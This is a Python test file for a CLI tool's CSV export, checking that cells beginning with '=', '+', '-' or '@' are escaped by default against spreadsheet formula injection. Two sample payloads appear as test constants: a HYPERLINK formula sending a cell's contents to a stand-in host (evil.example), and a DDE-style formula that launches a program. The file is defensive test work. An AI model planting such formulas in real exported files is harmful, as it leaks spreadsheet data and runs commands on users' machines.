"""`qocr results --format csv` against formula injection, on a batch made by `qocr run`.

A document's text or a provider's message can start with `=`, `+`, `-` or `@`: opened in a
spreadsheet, such a CSV cell would run as a formula. By default it is written with a
leading `'`; `--csv-raw` writes it verbatim.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import update

from qocr.emulator.testing import running_emulator
from qocr.models import Item, ItemState
from qocr.models import Result as ResultRow
from qocr.models.db import make_engine
from tests.support.cli_batches import API_KEY, invoke, run_batch
from tests.support.images import write_pngs

FORMULA_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_MESSAGE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def batch_id(database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[int]:
    """One succeeded and one failed item, whose text and message are then made formulas."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DASHSCOPE_API_KEY", API_KEY)
    monkeypatch.setenv("QOCR_DATABASE_URL", database_url)
    folder = tmp_path / "in"
    write_pngs(folder, 1)
    (folder / "empty.png").write_bytes(b"")
    with running_emulator(recognizer="hash") as emulator:
        monkeypatch.setenv("QOCR_BASE_URL", emulator.base_url)
        batch = run_batch(str(folder))
    engine = make_engine(database_url)
    with engine.begin() as conn:
        conn.execute(update(ResultRow).values(text=FORMULA_TEXT))
        conn.execute(
            update(Item)
            .where(Item.state == ItemState.FAILED)
            .values(last_error_message=FORMULA_MESSAGE)
        )
    engine.dispose()
    yield batch


def csv_rows(*args: str) -> list[dict[str, str]]:
    result = invoke("results", *args)
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.output)))


def by_state(rows: list[dict[str, str]]) -> dict[str, dict[str, str]]:
    return {row["state"]: row for row in rows}


def test_csv_cells_that_start_a_formula_are_escaped_by_default(batch_id: int) -> None:
    rows = by_state(csv_rows(str(batch_id), "--format", "csv"))

    assert rows["succeeded"]["text"] == "'" + FORMULA_TEXT
    assert rows["failed"]["error_message"] == "'" + FORMULA_MESSAGE
    assert rows["failed"]["error_code"] == "image_empty"  # other cells as they were


def test_csv_raw_writes_them_verbatim(batch_id: int) -> None:
    rows = by_state(csv_rows(str(batch_id), "--format", "csv", "--csv-raw"))

    assert rows["succeeded"]["text"] == FORMULA_TEXT
    assert rows["failed"]["error_message"] == FORMULA_MESSAGE


def test_jsonl_is_never_escaped_and_refuses_csv_raw(batch_id: int) -> None:
    lines = [json.loads(line) for line in invoke("results", str(batch_id)).output.splitlines()]
    documents = {line["state"]: line for line in lines}
    assert documents["succeeded"]["text"] == FORMULA_TEXT
    assert documents["failed"]["error_message"] == FORMULA_MESSAGE

    refused = invoke("results", str(batch_id), "--csv-raw")
    assert refused.exit_code == 2 and "--csv-raw applies to --format csv only" in refused.output
